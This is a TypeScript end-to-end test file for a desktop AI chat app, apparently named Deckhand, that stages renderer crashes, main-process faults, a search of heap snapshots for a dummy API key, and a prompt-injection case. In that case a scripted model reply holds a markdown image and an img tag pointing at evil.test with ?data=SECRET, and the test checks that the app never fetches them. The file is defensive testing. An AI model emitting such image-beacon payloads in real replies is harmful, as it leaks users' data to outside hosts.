import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { says } from '../e2e/scripted-model'
import { type AppWindow, callFrom, openApp } from './app-window'
import { type Case, type Judge, type Result, verdict } from './cases'

/** Something that only shows in the running app. Answers what is wrong, or nothing. */
interface Scene {
  class: string
  ids: string
  words: RegExp
  play(opened: AppWindow): Promise<string>
}

const key = 'sk-staged-0123456789abcdefghijklmnopqrstuv'

const SCENES: readonly Scene[] = [
  { class: 'crash-fault', ids: 'CF-002', words: /renderer|gpu|window (?:crash|hang)|blank window/, play: rendererDies },
  { class: 'crash-fault', ids: 'CF-026', words: /uncaught|unhandled|exception/, play: mainThrows },
  {
    class: 'secret-leak',
    ids: 'SE-008',
    words: /heap|renderer|devtools|page memory|localstorage|dom/,
    play: keyInThePage,
  },
  {
    class: 'prompt-injection',
    ids: 'PI-012',
    words: /markdown|image (?:exfil|url)|rendered (?:link|image)|beacon/,
    play: imageInText,
  },
]

/** Each scene in an app of its own, since some of them end badly on purpose. */
export const stagedJudge: Judge = {
  classes: [...new Set(SCENES.map((scene) => scene.class))],
  async run(cases) {
    const results: Result[] = []
    const played = new Map<Scene, Promise<string>>()
    for (const one of cases) {
      const scene = sceneOf(one)
      if (!scene) continue
      const outcome = played.get(scene) ?? play(scene)
      played.set(scene, outcome)
      const trouble = await outcome
      results.push(verdict(one, trouble === '', trouble))
    }
    return results
  },
}

function sceneOf(one: Case): Scene | undefined {
  const all = SCENES.filter((scene) => scene.class === one.class)
  const words = `${JSON.stringify(one.input)} ${one.expected.why ?? ''}`.toLowerCase()
  return all.find(({ ids }) => ids.split(' ').includes(one.id)) ?? all.find((scene) => scene.words.test(words))
}

async function play(scene: Scene): Promise<string> {
  const opened = await openApp()
  try {
    return await scene.play(opened)
  } catch (error) {
    return (error as Error).message.slice(0, 300)
  } finally {
    await opened.close()
  }
}

async function talk({ page, model }: AppWindow, question: string, answer: string): Promise<void> {
  const before = model.requests.length
  model.push(says(answer))
  await page.getByLabel('Message to Deckhand').fill(question)
  await page.getByLabel('Message to Deckhand').press('Enter')
  await model.requested(before + 1)
  // Up to where it may be more than words.
  const [words = ''] = answer.split(/[!<[]/)
  await page.getByText(words.trim()).first().waitFor({ timeout: 60_000 })
}

/** What the window shows, asked of the main process: the connection to a page that died is of no use any more. */
const shownIn = (opened: AppWindow): Promise<string> =>
  opened.app.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents
    // A page that is gone never answers.
    const none = new Promise<string>((resolve) => setTimeout(() => resolve(''), 2000))
    return Promise.race([none, contents?.executeJavaScript('document.body.innerText') as Promise<string>])
  })

async function waitFor(check: () => Promise<boolean>): Promise<boolean> {
  for (const deadline = Date.now() + 60_000; Date.now() < deadline; ) {
    if (await check().catch(() => false)) return true
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  return false
}

async function rendererDies(opened: AppWindow): Promise<string> {
  await talk(opened, 'remember the lighthouse', 'It stands on the rock.')
  const pid = await opened.app.evaluate(
    ({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getOSProcessId() ?? 0,
  )
  process.kill(pid, 'SIGKILL')
  const back = await waitFor(async () => {
    const text = await shownIn(opened)
    return text.includes('remember the lighthouse') && text.includes('It stands on the rock.')
  })
  return back ? '' : 'the window did not come back with its transcript'
}

async function mainThrows(opened: AppWindow): Promise<string> {
  await talk(opened, 'before the fault', 'All is well so far.')
  await opened.app.evaluate(({ dialog }) => {
    const asked: string[] = []
    Object.assign(globalThis, { asked })
    dialog.showMessageBox = (async (...args: unknown[]) => {
      asked.push(JSON.stringify(args.at(-1)))
      return { response: 0, checkboxChecked: false }
    }) as never
    setTimeout(() => {
      throw new Error('a fault on purpose')
    })
    void Promise.reject(new Error('another fault on purpose'))
  })
  const offered = await waitFor(() =>
    opened.app.evaluate(() => (globalThis as unknown as { asked: string[] }).asked.join().includes('Restart')),
  )
  if (!offered) return 'nobody offered to restart'
  const log = (): string => readFileSync(join(opened.data, 'logs/deckhand.log'), 'utf8')
  if (!(await waitFor(async () => /a fault on purpose/.test(log()) && /another fault/.test(log()))))
    return 'the log does not tell of it'
  const { value } = await callFrom(opened.page, 'session.list', {})
  return value?.length === 1 ? '' : 'the session is not there any more'
}

async function keyInThePage(opened: AppWindow): Promise<string> {
  const { page, model } = opened
  const provider = { id: 'scripted', name: 'Scripted', kind: 'openai', baseUrl: model.baseUrl, key }
  // A key is given by a person, who has pressed something just now.
  await page.keyboard.press('Escape')
  const saved = await callFrom(page, 'provider.save', provider)
  if (!saved.ok) return `the key could not be given: ${saved.error}`
  await talk(opened, 'use the key', 'It was used well.')
  // Whoever typed it had it in the page; a page that was opened since must not.
  await page.reload()
  await page.getByText('It was used well.').first().waitFor({ timeout: 60_000 })
  await page.evaluate(() => {
    ;(document.querySelector('[aria-label="Settings"], [data-page="settings"]') as HTMLElement | null)?.click()
  })
  const session = await page.context().newCDPSession(page)
  let heap = ''
  session.on('HeapProfiler.addHeapSnapshotChunk', ({ chunk }) => {
    heap += chunk
  })
  await session.send('HeapProfiler.takeHeapSnapshot')
  if (!heap.includes('It was used well.')) return 'the snapshot does not hold what the page shows'
  return heap.includes(key) ? 'the page holds the key' : ''
}

async function imageInText(opened: AppWindow): Promise<string> {
  await talk(opened, 'draw', 'Here it is. ![x](https://evil.test/?data=SECRET) <img src="https://evil.test/y">')
  await opened.page.waitForTimeout(1000)
  return opened.requests.length === 0 ? '' : `it asked for ${opened.requests.join(', ')}`
}
